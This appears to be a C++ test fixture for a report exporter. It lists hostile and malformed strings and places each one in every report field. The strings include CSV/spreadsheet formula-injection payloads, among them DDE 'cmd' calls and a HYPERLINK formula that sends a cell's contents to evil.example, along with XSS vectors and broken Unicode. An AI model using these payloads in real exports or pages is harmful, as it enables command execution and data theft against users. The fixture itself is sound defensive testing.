#pragma once

#include "services/reports/document.h"

#include <string>
#include <vector>

/** Texts that have broken exports: each may come from a stranger's post. */
namespace naughty {

inline std::vector<std::string> texts()
{
    return {
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        ";=1+1",
        "http://example.org/",
        "mailto:a@example.org",
        "internal:Sheet1!A1",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</style></title><svg onload=alert(1)>",
        "javascript:alert(1)",
        "' onmouseover='alert(1)",
        "&lt;b&gt; &amp; &#x41;",
        "]]><!-- ?> <!DOCTYPE x [<!ENTITY a \"b\">]>",
        std::string("nul\0inside", 10),
        "bell\x07 escape\x1b[31m backspace\x08",
        "\xE2\x80\xAE" "drawkcab",
        "\xE2\x81\xA6" "never closed \xE2\x80\xAB twice",
        "broken \xC3\x28 utf-8 \xF0\x9F\x98 end \xED\xA0\x80",
        "\xEF\xBF\xBE noncharacter \xEF\xBF\xBF",
        "\xEF\xBB\xBF" "bom",
        "emoji 👩‍👩‍👧‍👦 🏳️‍🌈 🎒 🇮🇱",
        "עברית עם English ו-123",
        "العربية مع English و ١٢٣",
        "Z̶̡̛̪͎a̵l̸g̷o̴ ",
        "日本語テキスト 中文 한국어",
        "❤️ ☎️ ➡️",
        "_x0041_ _x000D_",
        "%1 %2 %n {0} ${x} %s%n",
        "a,b;c\"d\"\r\ne",
        std::string(10000, 'w'),
        std::string(40000, 'y') + " over the limit of a cell",
        "line one\nline two\xE2\x80\xA8line three",
    };
}

/** A report with every naughty text in every place a text can stand. */
inline reports::Document document()
{
    using namespace reports;
    Document d;
    for (const std::string &text : texts()) {
        d.title += text.substr(0, 40) + ' ';
        d.brand = text;
        d.facts.push_back({text.substr(0, 60), text});
        d.sources.push_back(text.substr(0, 200));
        d.blocks.push_back(Heading{text, text});
        d.blocks.push_back(Paragraph{text, true});
        d.blocks.push_back(Paragraph{text, false});
        d.blocks.push_back(KeyFigures{{{text, text, text, Trend::Up, Goodness::Good, text}, {"", "", "", Trend::None, Goodness::Neither, ""}}});
        Table table{text, {{text, ColumnType::Text, 0}, {text, ColumnType::Number, 2}, {"date", ColumnType::Date, 0}}, {}, 0};
        table.rows = {{text, -12.5, foundation::DayNumber{20400}}, {text, text, text}, {}, {std::monostate{}, 1e300, foundation::DayNumber{-2000000}}, {text, 0.0 / 1.0, foundation::DayNumber{2000000}, text}};
        d.blocks.push_back(table);
        Chart chart;
        chart.spec.kind = charts::Kind::RankedBars;
        chart.spec.title = text;
        chart.spec.categories = {text, "plain"};
        chart.spec.series = {{text, 1, {3.0, 2.0}}};
        chart.caption = text;
        d.blocks.push_back(chart);
        d.blocks.push_back(Mentions{text, {{text, text, d.asOf, text, Sentiment::Negative, 5, text}}});
        d.blocks.push_back(ProvenanceTable{{{text, text, text, 7, text, text}}});
    }
    d.subtitle = d.statement = d.range = d.title;
    d.blocks.push_back(Table{"empty", {}, {{std::string("no column")}}, 0});
    d.blocks.push_back(KeyFigures{});
    d.blocks.push_back(Mentions{});
    d.blocks.push_back(Chart{});
    d.blocks.push_back(PageBreak{});
    return d;
}

} // namespace naughty
